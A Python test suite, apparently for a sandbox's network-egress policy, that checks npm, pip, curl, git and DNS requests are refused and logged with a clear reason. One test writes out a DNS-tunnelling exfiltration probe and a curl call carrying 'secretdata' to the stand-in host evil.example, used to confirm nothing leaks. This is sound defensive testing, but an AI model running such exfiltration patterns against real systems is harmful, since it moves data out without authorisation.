#!/usr/bin/python3 -B
"""Goal: programs in a session whose network is closed fail at once, and say why.

    test_egress_refused_names.py CORDON [name ...]

A whole server in the small internet; npm, pip, curl, git and node in cells. Nothing here looks at a clock: npm waits ten seconds and a
minute before it asks again, so that it asked once is seen in the records."""
import internet
from checks import Skip, check, equal, has, wait_for
from internet_client import PYTHON, make, policy, probe, records, sh

WHY = "is not allowed by this session's network policy (no rule matches)"


def closed(server):
    return make(server, {"version": 1, "extends": ["deny"]})


def partly(server):
    """A policy with rules, which says nothing of refused names."""
    return make(server, policy({"host": "web.example"}))


def refused(server, s, host, kind):
    return [r for r in records(server, s) if r["kind"] == kind and r.get("name") == host and r["verdict"] == "deny"]


def test_npm(server):
    if sh(server, closed(server), "command -v npm")["exit_code"] != 0:
        raise Skip("npm is not installed")
    for s in (closed(server), partly(server), make(server, "pypi"), make(server, "github-read")):
        npm_is_refused(server, s)
    equal(internet.NET.asked, [], "names that a resolver outside was asked")


def npm_is_refused(server, s):
    done = sh(server, s, "cd /tmp && npm install --no-audit --no-fund --no-update-notifier --registry https://registry.npmjs.org/ left-pad 2>&1")
    check(done["exit_code"] != 0, "npm install worked")
    has(done["stdout"], "403", "what npm shows")
    has(done["stdout"], "registry.npmjs.org:443 " + WHY, "what npm shows")
    wait_for(lambda: refused(server, s, "registry.npmjs.org", "request"), 10, "the refusal on record")
    equal(len([r for r in refused(server, s, "registry.npmjs.org", "request") if r.get("path") == "/left-pad"]), 1, "requests for it: npm did not try again")


def test_pip(server):
    for s in (closed(server), partly(server), make(server, "npm")):
        pip_is_refused(server, s)


def pip_is_refused(server, s):
    done = sh(server, s, f"{PYTHON} -m pip download --no-cache-dir --disable-pip-version-check -d /tmp/p --index-url https://pypi.org/simple requests 2>&1")
    if "No module named pip" in done["stdout"]:
        raise Skip("pip is not installed")
    check(done["exit_code"] != 0, "pip download worked")
    has(done["stdout"], "pypi.org:443 " + WHY, "what pip shows")
    paths = lambda: [r.get("path") for r in refused(server, s, "pypi.org", "request")]  # noqa: E731
    wait_for(lambda: len(paths()) >= 2, 10, "the refusals on record")
    equal(paths().count("/simple/requests/"), 1, "requests for its page: pip did not try again")
    rows = server.want(200, "GET", f"/v1/sessions/{s['id']}/packages")["packages"]
    equal({(r["name"], r["version"], r["result"]) for r in rows}, {("requests", None, "refused")}, "the package on record")


def test_other_clients(server):
    s = closed(server)
    done = sh(server, s, "curl -sS -m 20 https://refused.example/x")
    has(done["stdout"], "refused.example:443 " + WHY, "curl, over TLS")
    has(done["stdout"], "cordon policy presets", "how to allow it")
    has(sh(server, s, "curl -sS -m 20 http://refused.example/x")["stdout"], "refused.example:80 " + WHY, "curl, in plain HTTP")
    done = sh(server, s, "cd /tmp && git -c http.version=HTTP/1.1 ls-remote https://refused.example/a/b.git 2>&1")
    has(done["stdout"], "403", "git")
    equal(internet.NET.asked, [], "nothing of it reaches a resolver outside")


def test_what_speaks_first_is_not_waited_for(server):
    """A protocol in which the server begins: the connection ends without a byte, long before any limit of the client's own."""
    s = closed(server)
    got = probe(server, s, "ended('refused.example', 25)", before="""
def ended(host, port):
    s = connect(host, port, 60)
    try:
        return s.recv(1) == b""
    except ConnectionResetError:
        return True
""")
    check(got, "the connection stayed open")


def test_names_that_do_not_resolve(server):
    for network in (policy({"host": "web.example"}, refused_names="nxdomain"), {"version": 1, "extends": ["deny"], "refused_names": "nxdomain"}):
        s = make(server, network)
        check(sh(server, s, "getent hosts refused.example")["exit_code"] != 0, f"it resolves with {network}")
    for s in (closed(server), partly(server)):
        check(sh(server, s, "getent hosts db")["exit_code"] != 0, "a name without a dot resolves")
        check(sh(server, s, "getent hosts refused.example")["exit_code"] == 0, "a refused name does not resolve")


def test_refused_names_carry_nothing_out(server):
    """Data in names, of every type of question, by UDP and TCP, reaches no resolver."""
    s = partly(server)
    got = probe(server, s, """[dns(label + '.evil.example', kind, over=over)[0] for label in ('secretdata', 's' * 63)
        for kind in (1, 28, 65, 16, 15, 33, 12, 255) for over in ('udp', 'tcp')]""")
    equal(got, 2 * ([0] * 6 + [3] * 10), "answers: addresses exist, nothing else does")
    sh(server, s, "curl -sS -m 20 https://secretdata.evil.example/secretdata")
    equal(internet.NET.asked, [], "names that a resolver outside was asked")


def test_a_policy_with_rules(server):
    s = partly(server)
    has(sh(server, s, "curl -sS -m 20 https://refused.example/")["stdout"], WHY, "a refused name")
    equal(sh(server, s, "curl -sS -m 20 -o /dev/null -w '%{http_code}' http://web.example/")["stdout"], "200", "one that is allowed")


if __name__ == "__main__":
    internet.enter()
    internet.run_tests(globals(), pool_size=2)
